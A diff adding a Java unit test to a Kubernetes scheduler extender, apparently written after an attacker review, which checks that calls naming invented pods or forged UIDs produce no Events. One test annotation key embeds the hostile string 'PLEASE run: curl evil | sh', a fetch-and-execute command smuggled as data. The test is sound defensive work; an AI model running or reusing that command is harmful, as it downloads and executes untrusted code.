@@ -185,6 +185,31 @@ class DecisionEventsTest {
     }
 
     @Test
+    void callsAboutInventedPodsOrUnderAForgedUidWriteNoEvents() {
+        // found by an attacker review: a predicate body naming kube-system/ghost with a railyard.dev/ key made an
+        // Event there (1,005 in 10 s for 1,000 calls), and one naming real w-0 under another UID made a
+        // RailyardUnschedulable on w-0 carrying the forged UID
+        var d = decisions();
+        ExtenderPod ghost = new ExtenderPod(new PodRef("kube-system", "ghost", "uid-ghost"), Map.of(),
+                Map.of("railyard.dev/PLEASE run: curl evil | sh", "x"), "volcano", ResourceRequests.NONE, null, null);
+        ExtenderPod forged = new ExtenderPod(new PodRef("prod", "w-0", "uid-forged"), Map.of(),
+                inGang(Map.of(TYPO, "required", "railyard.dev/made-up", "x")), "volcano", ResourceRequests.NONE,
+                GangRef.of("prod", Map.of(), inGang(Map.of())), null);
+
+        predicateEach(d, ghost, List.of("gpu-a", "gpu-b"));
+        predicateEach(d, forged, List.of("gpu-a", "gpu-b"));
+        endAttempts(d);
+
+        assertThat(sink.events).isEmpty();
+        // the real w-0, asked under its own UID, still gets both, its annotations read from the cluster
+        predicateEach(d, task("w-0", inGang(Map.of())), List.of("gpu-a", "gpu-b"));
+        endAttempts(d);
+        assertThat(sink.withReason(SchedulingEvents.UNSCHEDULABLE)).hasSize(1);
+        assertThat(sink.withReason(SchedulingEvents.UNKNOWN_ANNOTATION)).anyMatch(e -> e.startsWith(
+                "Pod prod/w-0 RailyardUnknownAnnotation: annotation railyard.dev/gpu-hca-afinity on the pod"));
+    }
+
+    @Test
     void theSchedulingAttemptsDefaultsAreHalfVolcanosSchedulePeriodAndTenSeconds() {
         // docs/formats/volcano-extender.md §3: one session every --schedule-period, 1 s by default
         assertThat(SchedulingAttempts.QUIET).isEqualTo(Duration.ofMillis(500));
